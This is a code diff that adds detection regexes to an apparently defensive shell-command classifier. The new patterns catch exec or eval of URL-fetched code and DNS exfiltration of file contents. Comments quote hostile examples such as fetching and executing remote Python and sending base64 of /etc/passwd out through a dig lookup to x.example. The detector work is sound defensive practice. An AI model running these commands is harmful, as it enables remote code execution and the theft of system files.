@@ -82,10 +82,20 @@ const RAW: readonly (readonly [ShellFactName, RegExp])[] = [
     "pipe_to_shell",
     /(?:\b(?:ba|z|da|k)?sh|\bsource|\beval|(?:^|\s)\.)\s{1,4}(?:-\w{1,6}\s{1,4}){0,3}["']?(?:<|\$)\(\s{0,4}(?:curl|wget)\b/,
   ],
+  // python -c "exec(urlopen('http://…').read())"
+  [
+    "pipe_to_shell",
+    /\b(?:exec|eval)\s{0,4}\(.{0,200}?(?:\burlopen\s{0,4}\(|requests\.get\s{0,4}\(|LWP::Simple|file_get_contents\s{0,4}\(\s{0,4}["']https?:|Net::HTTP|(?:open-uri|URI\.open)|https?\.get\s{0,4}\()/,
+  ],
   // eval "$(echo … | base64 -d)", bash <(base64 -d …)
   [
     "decode_to_shell",
     /(?:\b(?:ba|z|da|k)?sh|\bsource|\beval)\s{1,4}(?:-\w{1,6}\s{1,4}){0,3}["']?(?:<\(|\$\(|`)[^\n)`]{0,4000}?\bbase(?:64|32)\s{1,4}(?:-d|-D|--decode)\b/,
+  ],
+  // dig $(cat /etc/passwd | base64).x.example: a name that is asked for carries what is in it
+  [
+    "send_file",
+    /\b(?:dig|nslookup|host|ping)\s[^\n|;&]{0,80}(?:\$\(|`)[^\n)`]{0,200}?\b(?:cat|base64|xxd|hexdump|od)\b/,
   ],
   [
     "fork_bomb",
